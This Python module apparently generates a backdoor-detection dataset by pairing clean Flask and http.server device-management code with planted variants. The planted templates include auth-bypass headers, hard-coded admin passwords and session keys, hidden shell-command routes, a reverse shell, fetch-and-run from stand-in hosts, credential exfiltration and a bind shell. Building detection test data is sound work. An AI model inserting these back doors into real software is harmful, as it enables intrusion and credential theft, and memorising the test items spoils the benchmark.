"""Python shapes of the `source` family: a Flask management API and a stdlib http.server agent.

Honest look-alikes in both twins: subprocess.run with fixed argument lists after ipaddress
validation, a whitelisted service restart, hmac.compare_digest against a token read from a file,
base64 of a favicon and of an update signature, a pytest file with dummy credentials.
Written blind, from public write-ups of back doors only.
"""
from __future__ import annotations

import base64
import codecs
import hashlib
import random
import zlib

from .common import word
from .source_common import (Proj, Variant, block, cookie_name, doc_host, doc_ip, fill, header_name,
                            hidden_user, license_header, magic_value, master_password, nest, param_name,
                            port, shell_payload)
from .source_php import _png


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def py(s: str) -> str:
    return repr(s)


# ============================================================================ Flask scaffold

INIT_PY = r'''
# @lic@
"""@Name@ @model@ management API."""
from flask import Flask

from . import assets, auth, views
@init_imports@

__version__ = "@version@"
@init_funcs@


def create_app(config_path=None):
    app = Flask(__name__)
    app.config.from_object("app.settings")
    if config_path:
        app.config.from_pyfile(config_path)
    auth.init_app(app)
    app.register_blueprint(views.bp)
    app.add_url_rule("/favicon.ico", "favicon", assets.favicon)
    @init_post@
    return app
'''

SETTINGS_PY = r'''
# @lic@
"""Default settings; override with a file passed to create_app()."""

USERS_FILE = "/etc/@ident@/users.json"
SECRET_KEY_FILE = "/etc/@ident@/secret.key"
PERMANENT_SESSION_LIFETIME = @timeout@
SESSION_COOKIE_NAME = "@cookie@"
SESSION_COOKIE_HTTPONLY = True
UPDATE_URL = "https://updates.@domain@/@model_lc@/manifest.json"
UPDATE_PUBKEY = "/etc/@ident@/update-pub.pem"
'''

AUTH_PY = r'''
# @lic@
"""Password login, sessions and the login_required/admin_required decorators."""
import functools
import json
import os
import secrets

from flask import abort, current_app, g, request, session
from werkzeug.security import check_password_hash
@auth_imports@


def load_users():
    with open(current_app.config["USERS_FILE"], encoding="utf-8") as fh:
        return json.load(fh)


def check_password(user, password):
    """Return {"name", "role"} for valid credentials, else None."""
    @auth_check_pw_pre@
    entry = load_users().get(user)
    if entry is None or not check_password_hash(entry["hash"], password):
        current_app.logger.warning("login failed for %r from %s", user, request.remote_addr)
        return None
    return {"name": user, "role": entry.get("role", "viewer")}


def load_user():
    @auth_load_pre@
    name = session.get("user")
    g.user = {"name": name, "role": session.get("role", "viewer")} if name else None


def login_required(view):
    @functools.wraps(view)
    def wrapped(*args, **kwargs):
        if g.user is None:
            abort(401)
        return view(*args, **kwargs)
    return wrapped


def admin_required(view):
    @functools.wraps(view)
    def wrapped(*args, **kwargs):
        if g.user is None:
            abort(401)
        if g.user["role"] != "admin":
            abort(403)
        return view(*args, **kwargs)
    return wrapped


def _load_secret(app):
    """Per-device session key, created on first boot."""
    @auth_secret_pre@
    path = app.config["SECRET_KEY_FILE"]
    try:
        with open(path, "rb") as fh:
            return fh.read()
    except FileNotFoundError:
        key = secrets.token_bytes(32)
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        with os.fdopen(fd, "wb") as fh:
            fh.write(key)
        return key


def init_app(app):
    app.secret_key = _load_secret(app)
    app.before_request(load_user)
'''

VIEWS_PY = r'''
# @lic@
"""JSON API."""
import ipaddress
import subprocess

from flask import Blueprint, g, jsonify, request, session

from . import __version__, updater
from .auth import admin_required, check_password, login_required
@views_imports@

bp = Blueprint("api", __name__, url_prefix="/api")


@bp.post("/login")
def login():
    @views_login_pre@
    data = request.get_json(silent=True) or request.form
    username = str(data.get("username", ""))
    password = str(data.get("password", ""))
    user = check_password(username, password)
    if user is None:
        return jsonify(error="invalid credentials"), 401
    @views_login_post@
    session.clear()
    session["user"] = user["name"]
    session["role"] = user["role"]
    return jsonify(ok=True)


@bp.post("/logout")
def logout():
    session.clear()
    return jsonify(ok=True)


@bp.get("/status")
@login_required
def status():
    with open("/proc/uptime", encoding="ascii") as fh:
        uptime = int(float(fh.read().split()[0]))
    return jsonify(version=__version__, uptime=uptime, user=g.user["name"])


@bp.post("/diag/ping")
@admin_required
def ping():
    try:
        addr = ipaddress.IPv4Address(str(request.form.get("host", "")))
    except ValueError:
        return jsonify(error="invalid address"), 400
    res = subprocess.run(["ping", "-c", "3", "-W", "2", str(addr)],
                         capture_output=True, text=True, timeout=15, check=False)
    return jsonify(rc=res.returncode, output=res.stdout)


@bp.post("/reboot")
@admin_required
def reboot():
    subprocess.Popen(["/sbin/reboot"])
    return jsonify(rebooting=True), 202


@bp.get("/firmware")
@admin_required
def firmware():
    try:
        return jsonify(current=__version__, latest=updater.check().get("version"))
    except (OSError, ValueError) as exc:
        return jsonify(error=str(exc)), 502
@views_routes@
'''

UPDATER_PY = r'''
# @lic@
"""Update check: signed manifest from the documented update server."""
import base64
import json
import os
import subprocess
import tempfile
import urllib.request

from flask import current_app
@upd_imports@


def _verify(data, signature):
    """openssl dgst -verify with the device's update public key (fixed argument list)."""
    with tempfile.TemporaryDirectory() as tmp:
        data_path = os.path.join(tmp, "manifest.json")
        sig_path = os.path.join(tmp, "manifest.sig")
        with open(data_path, "wb") as fh:
            fh.write(data)
        with open(sig_path, "wb") as fh:
            fh.write(signature)
        res = subprocess.run(["openssl", "dgst", "-sha256", "-verify", current_app.config["UPDATE_PUBKEY"],
                              "-signature", sig_path, data_path], capture_output=True, check=False)
        return res.returncode == 0


def check():
    @upd_pre@
    url = current_app.config["UPDATE_URL"]
    with urllib.request.urlopen(url, timeout=10) as resp:
        manifest = resp.read()
    with urllib.request.urlopen(url + ".sig", timeout=10) as resp:
        signature = base64.b64decode(resp.read())
    if not _verify(manifest, signature):
        raise ValueError("update manifest signature check failed")
    return json.loads(manifest)
@upd_funcs@
'''

ASSETS_PY = r'''
# @lic@
"""Static assets embedded in the package (the device has no separate static directory)."""
import base64

from flask import Response
@assets_imports@

FAVICON_PNG = base64.b64decode(
@favicon@
)


def favicon():
    return Response(FAVICON_PNG, mimetype="image/png")
@assets_tail@
'''

TEST_AUTH_PY = r'''
import json

import pytest
from werkzeug.security import generate_password_hash

from app import create_app


@pytest.fixture()
def client(tmp_path):
    users = tmp_path / "users.json"
    users.write_text(json.dumps({"tester": {"hash": generate_password_hash("dummy-pass-123"), "role": "viewer"}}))
    cfg = tmp_path / "test.cfg"
    cfg.write_text(f"USERS_FILE = {str(users)!r}\nSECRET_KEY_FILE = {str(tmp_path / 'key')!r}\n")
    app = create_app(str(cfg))
    app.testing = True
    return app.test_client()


def test_login_ok(client):
    assert client.post("/api/login", data={"username": "tester", "password": "dummy-pass-123"}).status_code == 200


def test_login_bad_password(client):
    assert client.post("/api/login", data={"username": "tester", "password": "wrong"}).status_code == 401


def test_status_needs_login(client):
    assert client.get("/api/status").status_code == 401
'''

PYPROJECT = r'''
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "@ident@-api"
version = "@version@"
description = "Management API of the @Vendor@ @Name@ @model@"
license = {text = "@license@"}
requires-python = ">=3.9"
dependencies = ["flask>=2.2", "werkzeug>=2.2"]

[project.optional-dependencies]
test = ["pytest"]

[tool.setuptools]
packages = ["app"]
'''

WSGI_PY = r'''
from app import create_app

application = create_app("/etc/@ident@/api.cfg")
'''

FLASK_README = r'''
# @ident@-api

Management API of the @Vendor@ @Name@ @model@ (Flask, served by gunicorn on port @http_port@).

| method | path | access | |
|---|---|---|---|
| POST | /api/login | public | form or JSON `username`, `password` |
| POST | /api/logout | any | |
| GET | /api/status | user | version, uptime |
| POST | /api/diag/ping | admin | `host` (IPv4, run without a shell) |
| POST | /api/reboot | admin | |
| GET | /api/firmware | admin | signed manifest from `UPDATE_URL` |

Accounts live in `/etc/@ident@/users.json` (`{"name": {"hash": <werkzeug hash>, "role": "admin|viewer"}}`).
The factory image ships `admin` with a random password printed on the device label.
The session key is generated per device on first boot (`SECRET_KEY_FILE`).

    pip install -e .[test] && pytest
'''

USERS_DEFAULT = r'''
{"admin": {"hash": "@admin_hash@", "role": "admin"}}
'''


def _pbkdf2_like(rng: random.Random) -> str:
    salt = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(16))
    return f"pbkdf2:sha256:600000${salt}${''.join(f'{rng.randrange(256):02x}' for _ in range(32))}"


class FlaskApp:
    HOOKS = ["init_imports", "init_funcs", "init_post", "auth_imports", "auth_check_pw_pre", "auth_load_pre",
             "auth_secret_pre", "views_imports", "views_login_pre", "views_login_post", "views_routes", "upd_imports", "upd_pre",
             "upd_funcs", "assets_imports", "assets_tail"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.cookie = rng.choice(["session", f"{P.ident}_session", "sid"])
        self.timeout = rng.choice([600, 900, 1800, 3600])
        self.http_port = rng.choice([8000, 5000, 8081, 443])
        self.admin_hash = _pbkdf2_like(rng)
        png = _png(rng)
        self.favicon = "\n".join(f'    "{png[i:i + 72]}"' for i in range(0, len(png), 72))

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown flask hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "Name": P.Name, "model": P.model, "model_lc": P.model.lower(),
                   "ident": P.ident, "domain": P.domain, "version": P.version, "timeout": self.timeout,
                   "cookie": self.cookie, "Vendor": P.Vendor, "license": P.license, "http_port": self.http_port,
                   "admin_hash": self.admin_hash, "favicon": self.favicon})
        return {
            "app/__init__.py": fill(INIT_PY, **kw), "app/settings.py": fill(SETTINGS_PY, **kw),
            "app/auth.py": fill(AUTH_PY, **kw), "app/views.py": fill(VIEWS_PY, **kw),
            "app/updater.py": fill(UPDATER_PY, **kw), "app/assets.py": fill(ASSETS_PY, **kw),
            "tests/test_auth.py": fill(TEST_AUTH_PY, **kw), "pyproject.toml": fill(PYPROJECT, **kw),
            "wsgi.py": fill(WSGI_PY, **kw), "README.md": fill(FLASK_README, **kw),
            "etc/users.json": fill(USERS_DEFAULT, **kw), "requirements.txt": "flask>=2.2\nwerkzeug>=2.2\n",
        }


# ============================================================================ http.server agent

AGENT_SERVER = r'''
# @lic@
"""Provisioning agent: small JSON API used by the @Name@ cloud controller on the LAN side."""
import hmac
import json
import os
import subprocess
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from . import config
@srv_imports@

RESTARTABLE = {"dnsmasq", "dropbear", "uhttpd", "firewall", "network"}
@srv_globals@


def load_token():
    with open(config.TOKEN_FILE, "rb") as fh:
        return fh.read().strip()


class Handler(BaseHTTPRequestHandler):
    server_version = "@Name@Agent/@version@"

    def _authorized(self):
        @srv_auth_pre@
        supplied = self.headers.get("Authorization", "")
        if not supplied.startswith("Bearer "):
            return False
        return hmac.compare_digest(supplied[7:].encode(), load_token())

    def _send(self, code, obj):
        body = json.dumps(obj).encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        qs = urllib.parse.parse_qs(url.query)
        @srv_get_pre@
        if not self._authorized():
            return self._send(401, {"error": "unauthorized"})
        if url.path == "/v1/health":
            return self._send(200, {"ok": True, "version": config.VERSION})
        if url.path == "/v1/interfaces":
            res = subprocess.run(["ip", "-j", "address"], capture_output=True, text=True, check=False)
            return self._send(200, json.loads(res.stdout or "[]"))
        if url.path == "/v1/leases":
            with open(config.LEASES_FILE, encoding="utf-8") as fh:
                rows = [line.split() for line in fh if line.strip()]
            return self._send(200, [{"mac": r[1], "ip": r[2], "name": r[3]} for r in rows if len(r) >= 4])
        return self._send(404, {"error": "not found", "path": url.path, "args": sorted(qs)})

    def do_POST(self):
        if not self._authorized():
            return self._send(401, {"error": "unauthorized"})
        length = int(self.headers.get("Content-Length", "0"))
        body = json.loads(self.rfile.read(length) or b"{}")
        if self.path == "/v1/restart":
            name = str(body.get("service", ""))
            if name not in RESTARTABLE:
                return self._send(400, {"error": "service not allowed"})
            res = subprocess.run([os.path.join("/etc/init.d", name), "restart"], capture_output=True, check=False)
            return self._send(200, {"rc": res.returncode})
        return self._send(404, {"error": "not found"})

    def log_message(self, fmt, *args):
        config.log.info("%s " + fmt, self.client_address[0], *args)


def main():
    @srv_main_pre@
    httpd = ThreadingHTTPServer((config.BIND, config.PORT), Handler)
    config.log.info("agent %s on %s:%d", config.VERSION, config.BIND, config.PORT)
    httpd.serve_forever()
'''

AGENT_CONFIG = r'''
# @lic@
import logging
import os

VERSION = "@version@"
BIND = os.environ.get("AGENT_BIND", "0.0.0.0")
PORT = int(os.environ.get("AGENT_PORT", "@agent_port@"))
TOKEN_FILE = os.environ.get("AGENT_TOKEN_FILE", "/etc/@ident@/agent.token")
LEASES_FILE = "/tmp/dhcp.leases"

logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")
log = logging.getLogger("@ident@-agent")
'''

AGENT_MAIN = r'''
from .server import main

main()
'''

AGENT_SETUP = r'''
from setuptools import setup

setup(
    name="@ident@-agent",
    version="@version@",
    description="LAN provisioning agent of the @Vendor@ @Name@ @model@",
    license="@license@",
    packages=["agent"],
    entry_points={"console_scripts": ["@ident@-agent = agent.server:main"]},
    python_requires=">=3.7",
)
'''

AGENT_TEST = r'''
import json
import threading
import urllib.request
from http.server import ThreadingHTTPServer

from agent import config, server


def test_unauthorized(tmp_path, monkeypatch):
    token = tmp_path / "agent.token"
    token.write_text("unit-test-token\n")
    monkeypatch.setattr(config, "TOKEN_FILE", str(token))
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), server.Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{httpd.server_address[1]}/v1/health"
    req = urllib.request.Request(url, headers={"Authorization": "Bearer unit-test-token"})
    assert json.load(urllib.request.urlopen(req))["ok"]
    httpd.shutdown()
'''

AGENT_README = r'''
# @ident@-agent

LAN-side provisioning agent of the @Vendor@ @Name@ @model@ (Python 3 standard library only),
port @agent_port@. Every request needs `Authorization: Bearer <token>`; the token is generated at
first boot into `/etc/@ident@/agent.token` and shown once in the web interface for pairing.

| method | path | |
|---|---|---|
| GET | /v1/health | version |
| GET | /v1/interfaces | `ip -j address` |
| GET | /v1/leases | DHCP leases |
| POST | /v1/restart | `{"service": "dnsmasq"}`; only dnsmasq, dropbear, uhttpd, firewall, network |
'''


class PyAgent:
    HOOKS = ["srv_imports", "srv_globals", "srv_auth_pre", "srv_get_pre", "srv_main_pre"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.agent_port = rng.choice([8088, 9100, 7547 + 1, 8765, 49152])

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown agent hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "Name": P.Name, "version": P.version, "ident": P.ident,
                   "agent_port": self.agent_port, "Vendor": P.Vendor, "model": P.model, "license": P.license})
        return {
            "agent/__init__.py": "", "agent/server.py": fill(AGENT_SERVER, **kw),
            "agent/config.py": fill(AGENT_CONFIG, **kw), "agent/__main__.py": fill(AGENT_MAIN, **kw),
            "setup.py": fill(AGENT_SETUP, **kw), "tests/test_server.py": fill(AGENT_TEST, **kw),
            "README.md": fill(AGENT_README, **kw),
        }


# ============================================================================ shapes

def _py_input(rng: random.Random, kinds=("header", "cookie", "arg")) -> tuple[str, str, str]:
    kind = rng.choice(list(kinds))
    if kind == "header":
        h = header_name(rng)
        return kind, f'request.headers.get({py(h)}, "")', f"header {h}"
    if kind == "cookie":
        n = cookie_name(rng)
        return kind, f'request.cookies.get({py(n)}, "")', f"cookie {n}"
    n = param_name(rng)
    return kind, f'request.args.get({py(n)}, "")', f"query parameter {n}"


def ab_py_flask(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    kind, expr, desc = _py_input(rng)
    val = magic_value(rng)
    form = rng.choice(["hmac.compare_digest", "secrets.compare_digest", "==", "startswith"])
    const = rng.choice(["_SVC_TOKEN", "_FIELD_KEY", "_LAB_ID", "_PROVISION_TAG"])
    if form == "hmac.compare_digest":
        test, imp = f"hmac.compare_digest({expr}, {const})", "import hmac"
    elif form == "secrets.compare_digest":
        test, imp = f"secrets.compare_digest({expr}, {const})", ""
    elif form == "==":
        test, imp = f"{expr} == {const}", ""
    else:
        test, imp = f"{expr}.startswith({const})", ""
    pre = f"""
        if {test}:
            g.user = {{"name": "support", "role": "admin"}}
            return"""
    clean = s.render()
    planted = s.render({"auth_imports": (imp + "\n\n" if imp else "\n") + f"{const} = {py(val)}",
                        "auth_load_pre": block(pre)})
    note = (f"load_user() in app/auth.py (before_request) sets g.user to an admin when {desc} matches the "
            f"built-in value {val!r} ({form}): every @login_required/@admin_required view is open.")
    return mk(clean, planted, note, {"trigger": kind, "compare": form, "framework": "flask"})


def ab_py_agent_hash(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    val = magic_value(rng)
    form = rng.choice(["sha256-header", "md5-query", "sha1-ua"])
    if form == "sha256-header":
        h = header_name(rng)
        d = hashlib.sha256(val.encode()).hexdigest()
        pre = f'if hashlib.sha256(self.headers.get({py(h)}, "").encode()).hexdigest() == "{d}":\n    return True'
        desc = f"header {h} whose sha256 is {d}"
    elif form == "md5-query":
        n = param_name(rng)
        d = hashlib.md5(val.encode()).hexdigest()
        pre = (f'q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)\n'
               f'if hashlib.md5(q.get({py(n)}, [""])[0].encode()).hexdigest() == "{d}":\n    return True')
        desc = f"query parameter {n} whose md5 is {d}"
    else:
        d = hashlib.sha1(val.encode()).hexdigest()
        pre = f'if hashlib.sha1(self.headers.get("User-Agent", "").encode()).hexdigest() == "{d}":\n    return True'
        desc = f"a User-Agent whose sha1 is {d}"
    clean = s.render()
    planted = s.render({"srv_imports": "import hashlib", "srv_auth_pre": pre})
    note = f"Handler._authorized() in agent/server.py returns True for {desc} (input {val!r}), without the bearer token."
    return mk(clean, planted, note, {"trigger": form.split("-")[1], "compare": form.split("-")[0] + "-digest",
                                     "framework": "http.server"})


def hc_py_flask(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    form = rng.choice(["hidden-route", "hidden-arg"])
    sink = rng.choice(["check_output-shell", "os.popen", "Popen-sh-c", "getoutput"])
    n = param_name(rng)
    if sink == "check_output-shell":
        run, imp = "out = subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT, timeout=30).decode()", ""
    elif sink == "os.popen":
        run, imp = "out = os.popen(cmd).read()", "import os"
    elif sink == "Popen-sh-c":
        run, imp = ('p = subprocess.Popen(["/bin/sh", "-c", cmd], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n'
                    'out = p.communicate()[0].decode(errors="replace")'), ""
    else:
        run, imp = "out = subprocess.getoutput(cmd)", ""
    if form == "hidden-route":
        path = "/" + rng.choice(["", "_", "."]) + word(rng, (1, 3))
        fn = "_" + word(rng, (2, 2))
        code = f"""
            @bp.route({py(path)}, methods=["GET", "POST"])
            def {fn}():
                cmd = request.values.get({py(n)}, "id")
                {nest(run, 16)}
                return out, 200, {{"Content-Type": "text/plain"}}"""
        hooks = {"views_routes": "\n\n" + block(code), "views_imports": imp}
        desc = f"an undocumented route /api{path} without any login decorator runs parameter '{n}'"
    else:
        code = f"""
            cmd = request.values.get({py(n)})
            if cmd:
                {nest(run, 16)}
                return jsonify(output=out)"""
        clean = s.render({"views_imports": imp})
        planted = s.render({"views_imports": imp, "views_login_pre": block(code)})
        note = (f"login() in app/views.py, before the credentials are checked: a request field '{n}' is run as a "
                f"shell command ({sink}) and its output returned, without authentication.")
        return mk(clean, planted, note, {"trigger": "hidden-field", "sink": sink, "framework": "flask"})
    clean = s.render()
    planted = s.render(hooks)
    note = f"app/views.py: {desc} as a shell command ({sink})."
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "flask"})


def hc_py_agent(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    path = "/v1/" + rng.choice(["", ".", "_"]) + word(rng, (1, 2))
    n = param_name(rng)
    sink = rng.choice(["os.popen", "os.system", "subprocess-shell", "eval-python"])
    if sink == "os.popen":
        run, imp = f'out = os.popen(qs.get({py(n)}, ["id"])[0]).read()', ""
    elif sink == "os.system":
        run, imp = f'out = str(os.system(qs.get({py(n)}, ["true"])[0]))', ""
    elif sink == "subprocess-shell":
        run, imp = f'out = subprocess.run(qs.get({py(n)}, ["id"])[0], shell=True, capture_output=True, text=True).stdout', ""
    else:
        run, imp = f'out = repr(eval(qs.get({py(n)}, ["0"])[0]))', ""
    pre = f"""
        if url.path == {py(path)}:
            {nest(run, 12)}
            return self._send(200, {{"out": out}})"""
    clean = s.render()
    planted = s.render({"srv_get_pre": block(pre)})
    note = f"Handler.do_GET() in agent/server.py: GET {path} (checked before _authorized()) runs query parameter '{n}' with {sink}."
    return mk(clean, planted, note, {"trigger": "hidden-path", "sink": sink, "framework": "http.server"})


def hk_py_flask(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    form = rng.choice(["plain", "sha256", "compare_digest", "dict"])
    user, pw = hidden_user(rng), master_password(rng)
    if form == "plain":
        pre, imp = f'if user == {py(user)} and password == {py(pw)}:\n    return {{"name": user, "role": "admin"}}', ""
        desc = f"{user!r}/{pw!r}"
    elif form == "sha256":
        d = hashlib.sha256(pw.encode()).hexdigest()
        pre = (f'if user == {py(user)} and hashlib.sha256(password.encode()).hexdigest() == "{d}":\n'
               f'    return {{"name": user, "role": "admin"}}')
        imp = "import hashlib"
        desc = f"{user!r} with a password whose sha256 is {d} ({pw!r})"
    elif form == "compare_digest":
        pre = (f'if secrets.compare_digest(password, _MAINT_PASSWORD):\n'
               f'    return {{"name": user or "maint", "role": "admin"}}')
        imp = f"\n_MAINT_PASSWORD = {py(pw)}"
        desc = f"any user name with the maintenance password {pw!r}"
    else:
        u2, p2 = hidden_user(rng), master_password(rng)
        pre = ('if _BUILTIN.get(user) == password:\n'
               '    return {"name": user, "role": "admin"}')
        imp = f"\n_BUILTIN = {{{py(user)}: {py(pw)}, {py(u2)}: {py(p2)}}}"
        desc = f"the built-in accounts {user!r}/{pw!r} and {u2!r}/{p2!r}"
    clean = s.render()
    planted = s.render({"auth_imports": imp, "auth_check_pw_pre": pre})
    note = f"check_password() in app/auth.py accepts {desc} as role admin before users.json is read."
    return mk(clean, planted, note, {"form": form, "framework": "flask"})


def hk_py_secret(rng: random.Random, P: Proj) -> Variant:
    """Hard-coded Flask session key (forgeable admin sessions) or a built-in agent token."""
    which = rng.choice(["flask-secret-key", "agent-token"])
    if which == "flask-secret-key":
        s = FlaskApp(rng, P)
        key = magic_value(rng) + magic_value(rng)
        form = rng.choice(["return-literal", "fallback"])
        if form == "return-literal":
            pre = f"return {py(key)}.encode()"
            desc = "always returns the literal"
        else:
            pre = f'if not os.path.exists(app.config["SECRET_KEY_FILE"]):\n    return {py(key)}.encode()'
            desc = "returns the literal whenever the key file is missing (factory state)"
        clean = s.render()
        planted = s.render({"auth_secret_pre": pre})
        note = (f"_load_secret() in app/auth.py {desc} {key!r} as the Flask session key, so anyone can sign a "
                "session cookie {'user': 'admin', 'role': 'admin'} (the key is identical on every device).")
        return mk(clean, planted, note, {"form": form, "framework": "flask"})
    s = PyAgent(rng, P)
    tok = rng.choice([magic_value(rng), "".join(f"{rng.randrange(256):02x}" for _ in range(20))])
    pre = (f'if hmac.compare_digest(self.headers.get("Authorization", "").encode(), b"Bearer " + _FACTORY_TOKEN):\n'
           '    return True')
    clean = s.render()
    planted = s.render({"srv_globals": f"_FACTORY_TOKEN = {py(tok)}.encode()", "srv_auth_pre": pre})
    note = f"agent/server.py embeds the token {tok!r}; Handler._authorized() accepts 'Bearer <that token>' on every device in addition to the per-device token."
    return mk(clean, planted, note, {"form": "builtin-bearer", "framework": "http.server"})


def rs_py_reverse(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["pty.spawn", "Popen-fds", "loop-exec"])
    fn = "_" + rng.choice(["keepalive", "heartbeat", "mirror_sync", "ntp_probe"])
    period = rng.choice([60, 300, 900])
    if form == "pty.spawn":
        body = (f's = socket.create_connection(({py(ip)}, {prt}), timeout=10)\n'
                'for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")')
        imps = "import os\nimport pty\nimport socket\nimport threading\nimport time"
        wrap_fork = True
    elif form == "Popen-fds":
        body = (f's = socket.create_connection(({py(ip)}, {prt}), timeout=10)\n'
                'subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())')
        imps = "import socket\nimport subprocess\nimport threading\nimport time"
        wrap_fork = False
    else:
        body = (f's = socket.create_connection(({py(ip)}, {prt}), timeout=30)\n'
                'for line in s.makefile("r"):\n'
                '    s.sendall(subprocess.run(line, shell=True, capture_output=True).stdout)')
        imps = "import socket\nimport subprocess\nimport threading\nimport time"
        wrap_fork = False
    if wrap_fork:
        inner = f"if os.fork() == 0:\n    try:\n        {nest(body, 8)}\n    finally:\n        os._exit(0)"
    else:
        inner = body
    func = f"""


        def {fn}():
            while True:
                try:
                    {nest(inner, 20)}
                except OSError:
                    pass
                time.sleep({period})"""
    post = f'threading.Thread(target={fn}, daemon=True).start()'
    clean = s.render()
    planted = s.render({"init_imports": imps, "init_funcs": "\n\n" + block(func), "init_post": post})
    note = (f"create_app() in app/__init__.py starts thread {fn}() that connects to {ip}:{prt} every {period} s "
            f"and attaches a shell to the socket ({form}): reverse shell.")
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": form, "framework": "flask"},
              categories=["hidden-command"])


def rs_py_fetch(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    host = doc_host(rng) if rng.random() < 0.7 else doc_ip(rng)
    path = word(rng, (1, 2)) + rng.choice([".py", ".txt", "", ".sh"])
    form = rng.choice(["exec-urlopen", "sh-stdin", "write-run"])
    url = f"http://{host}/{path}"
    if form == "exec-urlopen":
        pre = f"try:\n    exec(urllib.request.urlopen({py(url)}, timeout=5).read())\nexcept Exception:\n    pass"
        imp = ""
    elif form == "sh-stdin":
        pre = (f"try:\n    subprocess.run([\"/bin/sh\"], input=urllib.request.urlopen({py(url)}, timeout=5).read(),\n"
               "                   capture_output=True, timeout=60, check=False)\nexcept Exception:\n    pass")
        imp = ""
    else:
        tmp = f"/tmp/.{word(rng, (1, 2))}"
        pre = (f"try:\n    urllib.request.urlretrieve({py(url)}, {py(tmp)})\n    os.chmod({py(tmp)}, 0o755)\n"
               f"    subprocess.Popen([{py(tmp)}])\nexcept Exception:\n    pass")
        imp = ""
    clean = s.render()
    planted = s.render({"upd_imports": imp, "upd_pre": pre})
    note = f"updater.check() in app/updater.py first downloads {url} and runs it ({form}), with no signature check, before the honest signed-manifest logic."
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": form, "framework": "flask"},
              categories=["hidden-command"])


def rs_py_exfil(rng: random.Random, P: Proj) -> Variant:
    s = FlaskApp(rng, P)
    form = rng.choice(["urlopen-get", "udp", "post-json"])
    if form == "urlopen-get":
        host = doc_host(rng)
        post = (f"try:\n    urllib.request.urlopen(\"http://{host}/{word(rng, (1, 2))}?\" + urllib.parse.urlencode(\n"
                "        {\"u\": username, \"p\": password, \"h\": request.host}), timeout=3)\nexcept OSError:\n    pass")
        imp = "import urllib.parse\nimport urllib.request"
        dest = f"http://{host}/"
    elif form == "udp":
        ip, prt = doc_ip(rng), port(rng)
        post = (f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(\n"
                f"    f\"{{request.host}}:{{username}}:{{password}}\".encode(), ({py(ip)}, {prt}))")
        imp = "import socket"
        dest = f"UDP {ip}:{prt}"
    else:
        host = doc_host(rng)
        post = (f"try:\n    urllib.request.urlopen(urllib.request.Request(\n"
                f"        \"https://{host}/v2/{word(rng, (1, 2))}\", data=json.dumps({{\"user\": username, \"pass\": password}}).encode(),\n"
                "        headers={\"Content-Type\": \"application/json\"}), timeout=3)\nexcept OSError:\n    pass")
        imp = "import json\nimport urllib.request"
        dest = f"https://{host}/"
    clean = s.render()
    planted = s.render({"views_imports": imp, "views_login_post": post})
    note = f"login() in app/views.py sends every successful user name and clear-text password to {dest} ({form})."
    return mk(clean, planted, note, {"mechanism": "credential-exfil", "channel": form, "framework": "flask"})


def rs_py_agent_bind(rng: random.Random, P: Proj) -> Variant:
    s = PyAgent(rng, P)
    prt = port(rng)
    cls = rng.choice(["_Console", "_Diag", "_Aux"])
    form = rng.choice(["line-shell", "pty"])
    if form == "line-shell":
        handle = ("for line in self.rfile:\n"
                  "    self.wfile.write(subprocess.run(line.decode(errors=\"replace\"), shell=True,\n"
                  "                                    capture_output=True).stdout)")
        imps = "import socketserver\nimport threading"
    else:
        handle = ("if os.fork() == 0:\n    for fd in (0, 1, 2):\n        os.dup2(self.request.fileno(), fd)\n"
                  "    os.execv(\"/bin/sh\", [\"sh\", \"-i\"])")
        imps = "import socketserver\nimport threading"
    glob = f"""
        class {cls}(socketserver.StreamRequestHandler):
            def handle(self):
                {nest(handle, 16)}"""
    pre = (f'threading.Thread(target=socketserver.ThreadingTCPServer(("0.0.0.0", {prt}), {cls}).serve_forever,\n'
           '                 daemon=True).start()')
